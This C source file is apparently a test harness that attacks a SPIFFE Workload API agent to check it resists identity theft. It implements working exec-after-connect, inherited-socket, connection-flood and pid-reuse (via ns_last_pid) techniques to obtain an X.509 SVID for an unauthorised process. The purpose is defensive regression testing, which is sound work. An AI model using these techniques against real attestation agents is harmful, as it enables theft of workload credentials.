/* SPDX-License-Identifier: Apache-2.0 */
/* The exec-after-connect attack on the Workload API, for the integration test
 * t_agent_exec_attack.sh. Runs as root and does the attacker's work as another uid:
 *
 *   warden-attack -s SOCKET -u UID -m MODE ALLOWED [ARG...]
 *
 * Process A (uid UID) connects to SOCKET and forks B, which keeps the connection. Then,
 * by MODE:
 *   fork-exec   A (socket SOCK_CLOEXEC) execs ALLOWED: the socket closes in A, B has it
 *   exec-keep   A (socket without CLOEXEC) execs ALLOWED, which inherits the socket
 *   flood       as fork-exec, after another process of UID opened FLOOD_CONNECTIONS
 *               connections first, so the agent gets to A's connection late
 *   pid-reuse   A exits; a new process running ALLOWED is given A's pid
 *               (/proc/sys/kernel/ns_last_pid)
 * Once /proc/<A's pid>/exe is ALLOWED, B sends FetchX509SVID over the inherited
 * connection (gRPC core, grpc_channel_create_from_fd) and prints one line:
 *   REFUSED <status> <message>   exit 0
 *   WON <spiffe-id>              exit 1 (the agent issued an SVID to B)
 * Setup failures exit 2 (pid-reuse: 3 when the pid could not be reused). */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <grpc/byte_buffer.h>
#include <grpc/byte_buffer_reader.h>
#include <grpc/grpc.h>
#include <grpc/grpc_posix.h>
#include <grpc/grpc_security.h>
#include <grpc/slice.h>
#include <grpc/support/time.h>

#include "missing.h"
#include "spiffe/workload/workload.pb-c.h"

#define FLOOD_CONNECTIONS 60

typedef struct Args {
        const char *sock;
        uid_t uid;
        const char *mode;
        char **allowed; /* argv of the allowed program */
} Args;

static void become(uid_t uid) {
        if (setgroups(0, NULL) < 0 || setresgid(uid, uid, uid) < 0 || setresuid(uid, uid, uid) < 0)
                _exit(2);
}

/* The allowed program's output is not ours (B prints the result). */
static void quiet(void) {
        int fd = open("/dev/null", O_RDWR | O_CLOEXEC);

        if (fd >= 0) {
                (void) dup2(fd, STDOUT_FILENO);
                (void) dup2(fd, STDERR_FILENO);
        }
}

static int connect_to(const char *path, bool cloexec) {
        struct sockaddr_un sa = {.sun_family = AF_UNIX};
        int fd;

        if (strlen(path) >= sizeof(sa.sun_path))
                return -1;
        strcpy(sa.sun_path, path);
        fd = socket(AF_UNIX, SOCK_STREAM | (cloexec ? SOCK_CLOEXEC : 0), 0);
        if (fd < 0 || connect(fd, (struct sockaddr *) &sa, sizeof(sa)) < 0)
                return -1;
        return fd;
}

/* The pipe on which B reports its exit code (B is A's child, not ours). */
static int result_fd = -1;

static _Noreturn void b_exit(int code) {
        unsigned char c = (unsigned char) code;

        fflush(stdout);
        (void) !write(result_fd, &c, 1);
        _exit(code);
}

/* B: FetchX509SVID over fd; prints the outcome. Returns the exit code. */
static int call_over_fd(int fd) {
        grpc_metadata md = {.key = grpc_slice_from_static_string("workload.spiffe.io"),
                            .value = grpc_slice_from_static_string("true")};
        grpc_slice method = grpc_slice_from_static_string("/SpiffeWorkloadAPI/FetchX509SVID");
        grpc_slice empty = grpc_empty_slice();
        grpc_byte_buffer *send = grpc_raw_byte_buffer_create(&empty, 1), *recv = NULL;
        grpc_channel_credentials *creds = grpc_insecure_credentials_create();
        grpc_channel *ch = grpc_channel_create_from_fd("attack", fd, creds, NULL);
        grpc_completion_queue *cq = grpc_completion_queue_create_for_pluck(NULL);
        gpr_timespec deadline =
                gpr_time_add(gpr_now(GPR_CLOCK_REALTIME), gpr_time_from_seconds(10, GPR_TIMESPAN));
        grpc_call *call = grpc_channel_create_call(ch, NULL, 0, cq, method, NULL, deadline, NULL);
        grpc_metadata_array init_md, trailing;
        grpc_status_code status = GRPC_STATUS_UNKNOWN;
        grpc_slice details = grpc_empty_slice();
        grpc_op ops[5] = {}, sop = {};

        grpc_metadata_array_init(&init_md);
        grpc_metadata_array_init(&trailing);
        ops[0].op = GRPC_OP_SEND_INITIAL_METADATA;
        ops[0].data.send_initial_metadata.count = 1;
        ops[0].data.send_initial_metadata.metadata = &md;
        ops[1].op = GRPC_OP_SEND_MESSAGE;
        ops[1].data.send_message.send_message = send;
        ops[2].op = GRPC_OP_SEND_CLOSE_FROM_CLIENT;
        ops[3].op = GRPC_OP_RECV_INITIAL_METADATA;
        ops[3].data.recv_initial_metadata.recv_initial_metadata = &init_md;
        ops[4].op = GRPC_OP_RECV_MESSAGE;
        ops[4].data.recv_message.recv_message = &recv;
        if (grpc_call_start_batch(call, ops, 5, (void *) 1, NULL) != GRPC_CALL_OK)
                return 2;
        (void) grpc_completion_queue_pluck(cq, (void *) 1, gpr_inf_future(GPR_CLOCK_REALTIME),
                                           NULL);
        if (recv) {
                grpc_byte_buffer_reader rd;
                grpc_slice all;
                X509SVIDResponse *resp;

                grpc_byte_buffer_reader_init(&rd, recv);
                all = grpc_byte_buffer_reader_readall(&rd);
                resp = x509_svidresponse__unpack(NULL, GRPC_SLICE_LENGTH(all),
                                                 GRPC_SLICE_START_PTR(all));
                printf("WON %s\n", resp && resp->n_svids > 0 ? resp->svids[0]->spiffe_id : "?");
                b_exit(1); /* the point is made; no clean-up needed */
        }
        sop.op = GRPC_OP_RECV_STATUS_ON_CLIENT;
        sop.data.recv_status_on_client.trailing_metadata = &trailing;
        sop.data.recv_status_on_client.status = &status;
        sop.data.recv_status_on_client.status_details = &details;
        if (grpc_call_start_batch(call, &sop, 1, (void *) 2, NULL) != GRPC_CALL_OK)
                return 2;
        (void) grpc_completion_queue_pluck(cq, (void *) 2, gpr_inf_future(GPR_CLOCK_REALTIME),
                                           NULL);
        printf("REFUSED %d %.*s\n", (int) status, (int) GRPC_SLICE_LENGTH(details),
               (const char *) GRPC_SLICE_START_PTR(details));
        b_exit(status == GRPC_STATUS_OK ? 1 : 0);
}

/* B: waits for the go (a byte on `go`), then attacks over fd. */
static _Noreturn void run_b(int fd, int go) {
        char c;

        if (read(go, &c, 1) != 1)
                b_exit(2);
        grpc_init();
        b_exit(call_over_fd(fd));
}

static bool exe_is(pid_t pid, const char *want) {
        char link[64], t[PATH_MAX];
        ssize_t k;

        snprintf(link, sizeof(link), "/proc/%d/exe", (int) pid);
        k = readlink(link, t, sizeof(t) - 1);
        if (k <= 0)
                return false;
        t[k] = 0;
        return strcmp(t, want) == 0;
}

static bool wait_exe(pid_t pid, const char *want) {
        struct timespec ts = {0, 5 * 1000 * 1000};

        for (int i = 0; i < 2000; i++) {
                if (exe_is(pid, want))
                        return true;
                nanosleep(&ts, NULL);
        }
        return false;
}

/* Another process of the attacker's uid holding FLOOD_CONNECTIONS connections. */
static pid_t start_flood(const Args *a, int *ret_ready) {
        int p[2];
        pid_t pid;

        if (pipe2(p, O_CLOEXEC) < 0)
                return -1;
        pid = fork();
        if (pid == 0) {
                close(p[0]);
                become(a->uid);
                for (int i = 0; i < FLOOD_CONNECTIONS; i++)
                        (void) connect_to(a->sock, true);
                (void) !write(p[1], "r", 1);
                pause();
                _exit(0);
        }
        close(p[1]);
        *ret_ready = p[0];
        return pid;
}

/* A: connect, fork B, then exec the allowed program or exit. Returns A's pid; *ret_b
 * B's; *ret_go the pipe that starts B. */
static pid_t start_a(const Args *a, bool cloexec, bool exec_allowed, pid_t *ret_b, int *ret_go) {
        int go[2], info[2];
        pid_t pid, b = 0;

        if (pipe2(go, O_CLOEXEC) < 0 || pipe2(info, O_CLOEXEC) < 0)
                return -1;
        pid = fork();
        if (pid == 0) {
                int fd;

                close(go[1]);
                close(info[0]);
                become(a->uid);
                fd = connect_to(a->sock, cloexec);
                if (fd < 0)
                        _exit(2);
                b = fork();
                if (b == 0)
                        run_b(fd, go[0]);
                (void) !write(info[1], &b, sizeof(b));
                if (exec_allowed) {
                        quiet();
                        execv(a->allowed[0], a->allowed);
                }
                _exit(exec_allowed ? 2 : 0);
        }
        close(go[0]);
        close(info[1]);
        if (read(info[0], &b, sizeof(b)) != sizeof(b))
                b = -1;
        close(info[0]);
        *ret_b = b;
        *ret_go = go[1];
        return pid;
}

/* pid-reuse: a process of the attacker's running the allowed program gets pid `want`. */
static pid_t reuse_pid(const Args *a, pid_t want) {
        char buf[32];
        int fd, n;
        pid_t pid;

        fd = open("/proc/sys/kernel/ns_last_pid", O_WRONLY | O_CLOEXEC);
        n = snprintf(buf, sizeof(buf), "%d", (int) want - 1);
        if (fd < 0 || write(fd, buf, (size_t) n) != n)
                return -1;
        close(fd);
        pid = fork();
        if (pid == 0) {
                become(a->uid);
                quiet();
                execv(a->allowed[0], a->allowed);
                _exit(2);
        }
        return pid;
}

static int attack(const Args *a, const char *allowed_real) {
        bool pid_reuse = strcmp(a->mode, "pid-reuse") == 0;
        bool keep = strcmp(a->mode, "exec-keep") == 0;
        pid_t flood = 0, pa, pb, other = 0, target;
        int go, ready, res[2], rc = 2, b_fd = -1;
        unsigned char code;
        char c;

        if (pipe2(res, O_CLOEXEC) < 0)
                return 2;
        result_fd = res[1];

        if (strcmp(a->mode, "flood") == 0) {
                flood = start_flood(a, &ready);
                if (flood < 0 || read(ready, &c, 1) != 1)
                        return 2;
                close(ready);
        }
        pa = start_a(a, !keep, !pid_reuse, &pb, &go);
        if (pa < 0 || pb <= 0)
                return 2;
        /* B is A's child, not ours: only a pidfd (taken while B waits for the go) can
         * signal it later without hitting a process that got its pid since. */
        b_fd = missing_pidfd_open(pb, 0);
        target = pa;
        if (pid_reuse) {
                (void) waitpid(pa, NULL, 0);
                target = pa;
                pa = 0; /* reaped: its pid is anybody's now */
                other = reuse_pid(a, target);
                if (other != target) {
                        rc = 3;
                        goto out;
                }
        }
        if (!wait_exe(target, allowed_real)) {
                fprintf(stderr, "warden-attack: pid %d never ran %s\n", (int) target, allowed_real);
                goto out;
        }
        close(res[1]);
        res[1] = -1;
        if (write(go, "g", 1) != 1 || read(res[0], &code, 1) != 1) {
                fprintf(stderr, "warden-attack: no result from the attacking process\n");
                goto out;
        }
        rc = code;
out:
        close(go);
        close(res[0]);
        if (res[1] >= 0)
                close(res[1]);
        if (b_fd >= 0) {
                (void) missing_pidfd_send_signal(b_fd, SIGKILL); /* A (or init) reaps it */
                close(b_fd);
        }
        /* Our own children, not reaped yet: their pids are still theirs. */
        for (pid_t *p = (pid_t[]){pa, other, flood}, *e = p + 3; p < e; p++)
                if (*p > 0) {
                        kill(*p, SIGKILL);
                        (void) waitpid(*p, NULL, 0);
                }
        return rc;
}

int main(int argc, char **argv) {
        Args a = {};
        char real[PATH_MAX];
        int c;

        while ((c = getopt(argc, argv, "+s:u:m:")) >= 0)
                switch (c) {
                case 's':
                        a.sock = optarg;
                        break;
                case 'u':
                        a.uid = (uid_t) strtoul(optarg, NULL, 10);
                        break;
                case 'm':
                        a.mode = optarg;
                        break;
                default:
                        return 2;
                }
        if (!a.sock || !a.mode || optind >= argc || a.uid == 0) {
                fprintf(stderr,
                        "Usage: %s -s SOCKET -u UID -m fork-exec|exec-keep|flood|"
                        "pid-reuse ALLOWED [ARG...]\n",
                        argv[0]);
                return 2;
        }
        a.allowed = argv + optind;
        if (!realpath(a.allowed[0], real))
                return 2;
        return attack(&a, real);
}
